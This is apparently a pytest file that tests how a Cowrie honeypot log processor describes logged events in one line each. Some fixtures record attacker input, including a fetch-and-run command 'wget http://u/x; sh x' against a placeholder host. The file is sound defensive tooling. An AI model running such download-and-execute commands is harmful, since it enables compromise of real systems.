"""One-line descriptions of events."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from cowrieprocessor.events import EVENT_NAMES
from cowrieprocessor.reporting.timeline import describe_event


@pytest.mark.parametrize(
    ("event_type", "fields", "words"),
    [
        (
            "cowrie.session.connect",
            {"src_ip": "10.0.0.1", "src_port": 5, "dst_ip": "2001:db8::1", "dst_port": 22, "protocol": "ssh"},
            "from 10.0.0.1:5 to [2001:db8::1]:22 with ssh",
        ),
        ("cowrie.session.connect", {}, "from an unknown address"),
        ("cowrie.session.closed", {"duration": "3.14"}, "connection ended after 3.1 s"),
        ("cowrie.session.closed", {"duration_ms": 2500}, "connection ended after 2.5 s"),
        ("cowrie.session.closed", {}, "connection ended"),
        ("cowrie.login.success", {"username": "root", "password": "x y"}, "root / x y"),
        ("cowrie.login.failed", {"username": "root", "password": ""}, "root / "),
        ("cowrie.login.success", {"username": "root", "fingerprint": "aa:bb"}, "root with key aa:bb"),
        ("cowrie.login.failed", {"username": None, "password": 5}, " / 5"),
        ("cowrie.command.input", {"input": "uname -a", "input_safe": "no"}, "uname -a"),
        (
            "cowrie.command.input",
            {"input": None, "command": None, "input_safe": "wget [URL] [SC] sh x", "message": "m"},
            "[rewritten by version 3] wget [URL] [SC] sh x",
        ),
        (
            "cowrie.command.failed",
            {
                "input": None,
                "input_safe": "wget [URL]u/x [SC] sh x",
                "message": "Command not found: wget http://u/x; sh x",
            },
            "wget http://u/x; sh x",
        ),
        ("cowrie.command.input", {"input": "", "message": "CMD: "}, "CMD: "),
        (
            "cowrie.session.file_download",
            {"destfile": "/tmp/x", "url": "http://u/x", "shasum": "ab" * 32},
            "/tmp/x  from http://u/x  SHA-256 abababababab",
        ),
        ("cowrie.session.file_download", {"url": "/tmp/x", "destfile": "/tmp/x", "shasum": ""}, "/tmp/x  no content"),
        ("cowrie.session.file_upload", {"filename": "sshd", "shasum": "cd" * 32}, "sshd  SHA-256 cdcdcdcdcdcd"),
        ("cowrie.direct-tcpip.request", {"dst_ip": "example.org", "dst_port": 80}, "to example.org:80"),
        (
            "cowrie.direct-tcpip.data",
            {"dst_ip": "example.org", "dst_port": 80, "data": "GET /"},
            "to example.org:80: GET /",
        ),
        ("cowrie.client.var", {"name": "LANG", "value": "C"}, "LANG C"),
        ("cowrie.new.event", {"message": ["a", 1, None], "x": 1}, "a 1 "),
        ("cowrie.new.event", {"x": 1, "session": "s", "y": ["z"]}, "x=1 y=['z']"),
        (None, {"malformed": "torn"}, "malformed=torn"),
    ],
)
def test_an_event_is_described_in_one_line(event_type: str | None, fields: dict[str, Any], words: str) -> None:
    """Known event types show their important fields; others show their message or all fields."""
    assert words == describe_event(event_type, fields)


@pytest.mark.parametrize("name", sorted(EVENT_NAMES))
@pytest.mark.parametrize("value", [None, "", "x", 5, 1.5, True, ["a"], {"a": 1}])
def test_a_field_of_any_type_is_described(name: str, value: object) -> None:
    """An event is described whatever the type of its fields."""
    keys = (
        "src_ip src_port dst_ip dst_port protocol username password key fingerprint input command input_safe url "
        "outfile shasum destfile filename data message duration duration_ms name value hassh version ttylog error arch"
    )
    assert isinstance(describe_event(name, dict.fromkeys(keys.split(), value)), str)


def test_real_events_are_described(corpus: Path) -> None:
    """Every event of real logs has a description; it is empty only for events without content."""
    empty = set()
    for path in corpus.glob("cowrie-*/cowrie.json*"):
        for line in path.read_text(encoding="utf-8").splitlines():
            fields = json.loads(line)
            if not describe_event(fields["eventid"], fields).strip():
                empty.add(fields["eventid"])
    assert empty <= {"cowrie.command.input", "cowrie.session.params", "cowrie.session.input"}
